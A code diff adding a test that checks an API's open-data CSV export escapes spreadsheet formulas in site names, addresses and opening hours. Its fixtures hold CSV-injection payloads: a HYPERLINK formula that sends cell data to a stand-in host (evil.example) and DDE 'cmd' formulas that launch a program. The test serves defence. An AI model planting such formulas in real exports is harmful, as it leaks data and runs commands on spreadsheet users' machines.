@@ -384,6 +384,32 @@ class TestPublicMap:
         assert "hidden.contact" not in response.text
         assert "Staff-only depot" not in response.text
 
+    async def test_open_data_csv_neutralises_formulas(self, client: httpx.AsyncClient, issuer: TestIssuer) -> None:
+        """Issue 13: a site's name, address or hours that a spreadsheet would run as a formula is written with a
+        leading apostrophe; the coordinates and counts stay numbers (a negative longitude is not prefixed)."""
+        staff = issuer.headers(**STAFF)
+        hostile = {
+            "=": ('=HYPERLINK("https://evil.example/?d="&A2,"Map")', "=1+1 Chatham", "=cmd|' /C calc'!A0"),
+            "+": ("+Chatham depot", "+44 High Street", "+1-1"),
+            "-": ("-Chatham depot", "-2+3 High Street", "-1+1"),
+            "@": ("@SUM(1+1) depot", "@Chatham High Street", "@SUM(1+1)*cmd|' /C calc'!A0"),
+        }
+        for name, address, hours in hostile.values():
+            body = site_body(name, address=address, access_hours=hours, longitude=-0.25)
+            assert (await client.post("/v1/sites", json=body, headers=staff)).status_code == 201
+        response = await client.get("/v1/public/sites.csv")
+        assert response.status_code == 200
+        rows = {r["name"]: r for r in csv.DictReader(io.StringIO(response.text))}
+        for name, address, hours in hostile.values():
+            row = rows["'" + name]
+            assert (row["address"], row["access_hours"]) == ("'" + address, "'" + hours)
+            assert (row["longitude"], row["latitude"]) == ("-0.250000", "51.383800")
+            assert row["ready_packs"] == "0"
+        text_columns = ("site_id", "name", "address", "postcode", "district", "access_hours", "cabinet_type")
+        for row in rows.values():
+            for column in text_columns:
+                assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row[column])
+
 
 async def test_openapi_every_operation_documented(client: httpx.AsyncClient) -> None:
     document = (await client.get("/openapi/etp_inventory.json")).json()
